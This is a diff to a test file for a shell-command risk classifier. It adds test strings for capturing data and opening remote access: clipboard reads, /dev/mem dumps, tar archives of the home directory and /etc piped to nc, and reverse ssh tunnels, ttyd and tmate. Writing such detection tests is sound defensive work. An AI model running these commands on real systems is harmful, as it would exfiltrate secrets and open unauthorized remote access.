@@ -71,7 +71,16 @@ def test_settings_are_no_files_of_commands(command: str, level: Level) -> None:
     assert classify(command.format("x")).level is Level.MEDIUM
 
 
-CAPTURES = ("tcpdump -i any -w -", "tshark -i any -w -")
+CAPTURES = (
+    "tcpdump -i any -w -",
+    "tshark -i any -w -",
+    "xclip -o",
+    "wl-paste",
+    "dd if=/dev/mem",
+    "tar cz ~",
+    "tar -C ~ -cf - .",
+    "tar c /etc",
+)
 SENDERS = ("nc host 1", "curl -T - https://x.example", "socat - tcp:host:1")
 
 
@@ -103,7 +112,15 @@ def test_keys_that_stay_with_their_owner() -> None:
         assert classify(command).level is Level.MEDIUM, command
 
 
+@each("whole", ["tar c src", "tar c .", "tar cz ~/photos"])
+def test_a_part_that_is_packed_and_sent_is_what_it_was(whole: str) -> None:
+    assert classify(f"{whole} | nc host 1").level is Level.MEDIUM
+    assert classify("tar czf home.tgz ~").level is Level.MEDIUM
+
+
 WAYS_IN = (
+    "ttyd bash",
+    "tmate -F",
     "ssh -R 80:localhost:80 h",
     "ssh -NR8080:localhost:8080 h",
     "autossh -M 0 -fN -R 9:localhost:9 h",
